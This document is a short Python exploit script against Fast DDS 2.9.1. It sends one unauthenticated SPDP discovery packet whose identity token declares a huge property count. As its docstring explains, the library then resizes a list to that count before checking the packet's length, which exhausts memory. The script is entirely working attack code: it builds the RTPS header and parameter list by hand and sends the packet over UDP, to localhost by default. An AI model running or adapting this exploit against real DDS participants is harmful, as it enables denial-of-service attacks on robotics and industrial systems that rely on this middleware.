#!/usr/bin/env python3
"""One unauthenticated SPDP packet to a secured participant's discovery port:
an identity token whose property count is COUNT. Fast DDS 2.9.1's CDRMessage::readPropertySeq resizes the
property list to COUNT before it checks that the packet holds them (72 bytes each: 20,000,000 -> 1.44 GB).
  discovery_packet.py PORT COUNT      (to 127.0.0.1; prints the packet's size)"""
import socket
import struct
import sys

port, count = int(sys.argv[1]), int(sys.argv[2])
prefix = bytes([0x01, 0x0F, 0xAA, 0xBB, 0xCC, 0xDD, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66])


def parameter(pid, value):
    value += b"\0" * ((4 - len(value) % 4) % 4)
    return struct.pack("<HH", pid, len(value)) + value


class_id = b"DDS:Auth:PKI-DH:1.0\0"
payload = (b"\x00\x03\x00\x00"  # PL_CDR_LE
           + parameter(0x0015, bytes([2, 3, 0, 0]))  # protocol version
           + parameter(0x0016, bytes([1, 15, 0, 0]))  # vendor
           + parameter(0x0050, prefix + bytes([0, 0, 1, 0xC1]))  # participant GUID
           + parameter(0x1001, struct.pack("<I", len(class_id)) + class_id + struct.pack("<I", count))  # identity token
           + struct.pack("<HH", 1, 0))  # sentinel
# DATA from the SPDP writer to the SPDP reader, sequence number 1, no inline QoS.
body = (struct.pack("<HH", 0, 16) + bytes([0, 1, 0, 0xC7]) + bytes([0, 1, 0, 0xC2]) + struct.pack("<iI", 0, 1)
        + payload)
message = b"RTPS" + bytes([2, 3, 1, 15]) + prefix + bytes([0x15, 0x05]) + struct.pack("<H", len(body)) + body
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(message, ("127.0.0.1", port))
print(len(message))
